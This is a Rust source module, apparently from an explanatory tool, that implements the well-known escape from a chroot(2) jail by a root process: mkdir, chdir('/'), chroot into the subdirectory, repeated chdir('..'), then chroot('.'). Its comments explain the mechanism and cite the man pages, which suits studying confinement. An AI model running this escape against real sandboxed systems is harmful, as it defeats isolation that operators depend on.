//! The classic escape from chroot(2), as root.
//!
//! A process has one root, and `..` stops there and nowhere else. Move the root
//! away from the working directory, and walking up never meets it. In a pivoted
//! root the same calls succeed as well, and arrive at the top of the mount
//! namespace: the root that one came from.
//!
//! Read: chroot(2) (NOTES), path_resolution(7)

use nix::errno::Errno;
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, mkdir};

use crate::explain::{CallError, Explain};

/// More than any path has directories; at the top `..` is the top.
const UP: usize = 64;

/// Leaves the root for the topmost one that there is. `hole` is a directory below
/// it, made if need be.
pub fn escape(explain: Explain, hole: &str) -> Result<(), CallError> {
    match explain.call(format!("mkdir({hole:?}, 0755)"), mkdir(hole, Mode::S_IRWXU)) {
        // One that is there already does as well.
        Err(error) if error.errno == Errno::EEXIST => {}
        made => made?,
    }
    // The working directory has to be above the hole: it is what will be outside.
    explain.call("chdir(\"/\")", chdir("/"))?;
    // Replaces the root. No chdir after it: that is the whole trick.
    explain.call(format!("chroot({hole:?})"), chroot(hole))?;
    explain.announce(&format!("chdir(\"..\")    {UP} times"));
    for _ in 0..UP {
        chdir("..").map_err(|errno| CallError {
            call: "chdir(\"..\")".into(),
            errno,
        })?;
    }
    // Out. Absolute paths are to begin here too.
    explain.call("chroot(\".\")", chroot("."))
}
